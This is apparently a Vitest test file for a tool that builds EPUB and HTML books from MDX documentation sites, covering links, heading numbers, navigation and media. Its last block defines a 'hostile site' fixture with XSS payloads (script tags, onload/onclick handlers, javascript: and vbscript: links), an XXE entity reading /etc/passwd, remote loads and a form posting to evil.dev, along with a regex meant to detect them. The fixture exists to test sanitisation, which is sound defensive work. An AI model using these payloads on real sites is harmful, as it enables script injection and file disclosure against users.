import { describe, expect, it } from 'vitest'
import { createMemorySource } from '../../../test/in-memory-folders.ts'
import { emitEpub, renderBookHtml } from '../../emit/index.ts'
import { packageData } from '../testing/create-test-io.ts'
import { createBook } from './create-book.ts'

const PNG = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='

async function create(files: Record<string, string>, more: { navigation?: object; divisions?: string[] } = {}) {
  const pages = Object.keys(files).flatMap((path) => (path.endsWith('.mdx') ? path.replace('.mdx', '') : []))
  const config = {
    theme: 'mint',
    name: 'Acme',
    colors: { primary: '#0a7a5a' },
    navigation: more.navigation ?? { pages },
  }
  const source = createMemorySource({ 'docs.json': JSON.stringify(config), ...files })
  const result = await createBook({ base: '', divisions: more.divisions ?? [] }, { source, packageData })
  if (result.status !== 'created') throw new Error(JSON.stringify(result))
  return { ...result, codes: result.diagnostics.map(({ code }) => code) }
}

async function toFiles(files: Record<string, string>): Promise<{ read: (path: string) => string; codes: string[] }> {
  const { book, codes } = await create(files)
  const emitted = emitEpub(book)
  return { codes, read: (path) => String(emitted.get(`EPUB/${path}`)) }
}

describe('a book', () => {
  it('links chapters, and leaves a link to a missing heading at the start of its chapter', async () => {
    const { read } = await toFiles({
      'a.mdx': '[1](/b#one_two) [2](/b#gone) [3](#here) [4](/b)\n\n## Here\n',
      'b.mdx': '## One_two\n',
    })
    const hrefs = [...read('c1.xhtml').matchAll(/<a href="([^"]*)"/g)].map(([, href]) => href)
    expect(hrefs).toEqual(['c2.xhtml#c2-one__two', 'c2.xhtml#c2', 'c1.xhtml#c1-here', 'c2.xhtml#c2'])
    expect(read('c2.xhtml')).toContain('id="c2-one__two"')
  })

  it('numbers chapters and headings, and lists them under their groups', async () => {
    const { book } = await create(
      { 'a.mdx': '## One\n\n### Two\n\n## Three\n', 'b.mdx': 'Text' },
      {
        navigation: {
          groups: [
            { group: 'Start', pages: ['a'] },
            { group: 'More', pages: ['b'] },
          ],
        },
      },
    )
    const nav = String(emitEpub(book).get('EPUB/nav.xhtml'))
      .replace(/<[^>]*>/g, ' ')
      .replace(/\s+/g, ' ')
    expect(nav).toContain('Start 1 A 1.1 One 1.2 Three More 2 B')
    expect(renderBookHtml(book)).toContain('<h5 id="c1-two"><span class="number">1.1.1</span> Two</h5>')
  })

  it('has no link without text, no heading without text, and no link to a placeholder', async () => {
    const { read } = await toFiles({
      'a.mdx':
        '##\n\n## Code [<Icon icon="github" />](https://a.dev/b)\n\n[![A](data:image/png;base64,' +
        `${PNG})](https://a.dev/c) [x](https://\${name}.a.dev) [y](https://my_host.a.dev:8080/)\n`,
    })
    const chapter = read('c1.xhtml')
    expect([...chapter.matchAll(/<a href="([^"]*)"/g)].map(([, href]) => href)).toEqual([
      'https://a.dev/c',
      'https://my_host.a.dev:8080/',
    ])
    expect(chapter.match(/<h\d/g)).toHaveLength(2)
    expect(chapter).toContain('</a> x <a')
  })

  it('numbers no title of a home page, separates buttons, and breaks words only in wide tables', async () => {
    const { read } = await toFiles({
      'a.mdx':
        '<Hero title="Own it" />\n\n## One\n\n<p><a href="https://a.dev/">A</a><a href="https://b.dev/">B</a></p>\n\n' +
        `| \`word\` | b |\n| --- | --- |\n\n| a | b |\n| --- | --- |\n| ${'long'.repeat(9)} | ${'word'.repeat(9)} |\n`,
    })
    const chapter = read('c1.xhtml')
    expect(chapter).toMatch(/<h\d>Own it<\/h\d>/)
    expect(chapter).toContain('<h3 id="c1-one" class="section"><span class="number">1.1</span> One</h3>')
    expect(chapter).toContain('A</a> <a')
    expect(chapter.match(/<table[^>]*>/g)).toEqual(['<table class="whole-words">', '<table>'])
  })

  it('reports a diagram where it is written', async () => {
    const { diagnostics } = await create({ 'a.mdx': '# A\n\nText.\n\n```mermaid\ngraph TD; A-->B\n```\n' })
    expect(diagnostics.map((at) => `${at.file}:${at.line}:${at.column} ${at.code} ${at.message}`)).toContain(
      'a.mdx:5:1 book/diagram The book contains the source of this Mermaid diagram.',
    )
  })

  it('has no part for a group whose title is a space', async () => {
    const { book } = await create({ 'a.mdx': 'Text' }, { navigation: { groups: [{ group: ' ', pages: ['a'] }] } })
    expect(book.entries.map(({ type }) => type)).toEqual(['chapter'])
  })

  it('has the pages of one language, of one tab, in the order of the navigation', async () => {
    const navigation = {
      languages: [
        {
          language: 'en',
          tabs: [
            { tab: 'Guides', pages: ['b', 'a'] },
            { tab: 'API', pages: ['c'] },
          ],
        },
        { language: 'ar', tabs: [{ tab: 'API', pages: ['ar/c'] }] },
      ],
    }
    const files = { 'a.mdx': '', 'b.mdx': '', 'c.mdx': '', 'ar/c.mdx': '' }
    const read = async (divisions: string[]) => {
      const { book } = await create(files, { navigation, divisions })
      return {
        pages: book.chapters.map(({ page }) => page.path),
        language: book.facts.language,
        dir: book.facts.direction,
      }
    }
    expect(await read([])).toEqual({ pages: ['b', 'a', 'c'], language: 'en', dir: 'ltr' })
    expect(await read(['api'])).toMatchObject({ pages: ['c'] })
    expect(await read(['ar', 'API'])).toEqual({ pages: ['ar/c'], language: 'ar', dir: 'rtl' })
    await expect(read(['Guide'])).rejects.toThrow('"nearest":["Guides"]')
  })

  it('opens tabs and accordions, and shows only the first sample of a request', async () => {
    const { read } = await toFiles({
      'a.mdx':
        '<Tabs><Tab title="One">1</Tab><Tab title="Two">2</Tab></Tabs>\n\n<Accordion title="Why">Because</Accordion>\n\n' +
        '<RequestExample>\n```bash cURL\ncurl a\n```\n```py Python\nget(a)\n```\n</RequestExample>\n',
    })
    const text = read('c1.xhtml')
      .replace(/<[^>]*>/g, ' ')
      .replace(/\s+/g, ' ')
    expect(text).toMatch(/One 1 Two 2 Why Because .*curl a/)
    expect(text).not.toContain('get(a)')
  })

  it('contains images once, formulas as MathML, and links instead of videos and images of other servers', async () => {
    const { read, codes } = await toFiles({
      'a.mdx':
        `![A](data:image/png;base64,${PNG}) ![B](https://b.dev/b.png)\n\n$$a^2 \\boxed{\\mathbb R}$$\n\n` +
        '<iframe src="https://c.dev/v" title="A tour" />\n',
    })
    const chapter = read('c1.xhtml')
    expect(chapter).toContain('<a href="https://b.dev/b.png">B</a>')
    expect(chapter).toContain('<p><a href="https://c.dev/v">A tour</a></p>')
    expect(chapter).toContain('<math ')
    // MathML 3 has the first two attributes only on this element.
    expect(chapter).toContain(
      '<mstyle scriptlevel="0" displaystyle="true" style="padding:3pt;border:1px solid;"><mi>ℝ</mi></mstyle>',
    )
    expect(read('package.opf')).toContain('href="c1.xhtml" media-type="application/xhtml+xml" properties="mathml"')
    expect(codes.sort()).toEqual(['book/media', 'book/remote-image'])
  })
})

describe('the book of a hostile site', () => {
  const SVG =
    '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' +
    '<script>alert(1)</script><a href="javascript:alert(1)"><text>hi</text></a><image href="https://evil.dev/a.png"/>' +
    '<style>@import "https://evil.dev/a.css";</style><foreignObject><iframe src="https://evil.dev"></iframe></foreignObject>' +
    '<use href="https://evil.dev/b.svg#x"/><rect fill="url(https://evil.dev/c)" width="1"/><text>&x;</text></svg>'

  const FILES = {
    'a.mdx':
      '# T\n\n![x](/x.svg)\n\n[j](javascript:alert(1)) <a href="vbscript:x">v</a> [d](data:text/html,x) ' +
      '<a href="  java\tscript:alert(1)">t</a>\n\n<div onclick="alert(1)" style="background:url(https://evil.dev/d)" ' +
      'data-x="1">\n\ntext\n\n</div>\n\n<script src="https://evil.dev/e.js"></script>\n\n<object data="javascript:alert(1)" />\n\n' +
      '<form action="https://evil.dev/f"><button>Go</button><input name="p" /></form>\n\n<svg><set onbegin="alert(1)" ' +
      'attributeName="href" /><path d="M0 0" onClick="alert(1)" /></svg>\n\n<meta httpEquiv="refresh" content="0;url=https://evil.dev" />\n\n' +
      '<p><ul><p>in</p>loose</ul></p>\n\n<table>text<div>row</div></table>\n',
    'x.svg': SVG,
  }

  it('runs nothing and loads nothing, in every format', async () => {
    const { book } = await create(FILES)
    const epub = [...emitEpub(book)].map(([, content]) =>
      typeof content === 'string' ? content : new TextDecoder().decode(content),
    )
    const html = renderBookHtml((await create(FILES)).book)
    const svg = Buffer.from(/data:image\/svg\+xml;base64,([^"]*)/.exec(html)?.[1] ?? '', 'base64').toString()
    expect(svg).toContain('<rect')
    for (const text of [...epub, html, svg]) {
      expect(text).not.toMatch(
        /javascript:|vbscript:|data:text|<script|<iframe|<form|<object|<set|foreignObject|\son\w+=|@import|passwd/i,
      )
      expect(text.replace(/<a href="https:[^"]*"/g, '')).not.toMatch(/(?:src|href|url\()[=("']*https?:\/\/evil/)
    }
  })

  it('is well nested whatever authors nest', async () => {
    const { read } = await toFiles(FILES)
    expect(read('c1.xhtml')).toContain('<ul><li><p>in</p></li><li>loose</li></ul>')
    expect(read('c1.xhtml')).toContain('<tr><td>text</td></tr><tr><td><div>row</div></td></tr>')
  })
})
